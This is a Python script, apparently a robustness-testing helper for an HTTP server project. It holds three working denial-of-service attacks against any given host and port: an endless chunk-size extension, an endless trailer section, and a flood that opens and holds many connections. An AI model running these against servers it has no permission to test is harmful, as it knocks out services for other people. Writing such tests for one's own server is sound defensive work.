"""Attacks on an HTTP server that no Debian tool makes, for adversary.rs.

    adversary.py chunk-extension HOST PORT  a chunk-size line that never ends
    adversary.py trailer HOST PORT          a trailer section that never ends
    adversary.py flood HOST PORT N SECONDS  N connections from one address,
                                            held for SECONDS

The two endless ones send for at most 20 s and print
`answered STATUS after BYTES bytes in SECONDS s` (or `no answer after ...`);
flood prints `opened K of N` once it has tried them all, `held H` for those
the server has not closed a second later, then holds them.
"""
import socket
import sys
import time

mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
HEAD = b"POST / HTTP/1.1\r\nHost: attack\r\nTransfer-Encoding: chunked\r\n\r\n"


def endless(prefix, filler):
    s = socket.create_connection((host, port), timeout=5)
    s.setblocking(False)
    sent, start, answer = 0, time.monotonic(), b""
    data = HEAD + prefix
    while time.monotonic() - start < 20:
        try:
            sent += s.send(data)
            data = filler * 4096
        except BlockingIOError:
            time.sleep(0.01)
        except (BrokenPipeError, ConnectionResetError):
            pass
        try:
            chunk = s.recv(4096)
            answer += chunk
            if not chunk or b"\r\n" in answer:
                break
        except BlockingIOError:
            pass
        except ConnectionResetError:
            break
    took = time.monotonic() - start
    if answer.startswith(b"HTTP/1.1 "):
        status = answer.split(b" ")[1].decode()
        print(f"answered {status} after {sent} bytes in {took:.1f} s")
    else:
        print(f"no answer after {sent} bytes in {took:.1f} s")


def flood(n, seconds):
    """N connects at once; those the server completes within 3 s count."""
    import resource
    import selectors
    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 100, n + 100))
    sel = selectors.DefaultSelector()
    pending = []
    for _ in range(n):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((host, port))
        sel.register(s, selectors.EVENT_WRITE)
        pending.append(s)
    held, deadline = [], time.monotonic() + 3
    while len(held) < n and time.monotonic() < deadline:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            sel.unregister(s)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                held.append(s)
    print(f"opened {len(held)} of {n}", flush=True)
    # A server that accepts and closes at once (the socket stack beyond
    # its limits): within a second its connections read end of file.
    time.sleep(1)
    still = 0
    for s in held:
        try:
            if s.recv(1, socket.MSG_PEEK):
                still += 1
        except BlockingIOError:
            still += 1
        except OSError:
            pass
    print(f"held {still}", flush=True)
    time.sleep(max(0.0, seconds - 1))


if mode == "chunk-extension":
    endless(b"1;", b"a")
elif mode == "trailer":
    endless(b"1\r\na\r\n0\r\nX-Trailer: ", b"b")
elif mode == "flood":
    flood(int(sys.argv[4]), float(sys.argv[5]))
else:
    raise SystemExit(f"unknown attack {mode}")
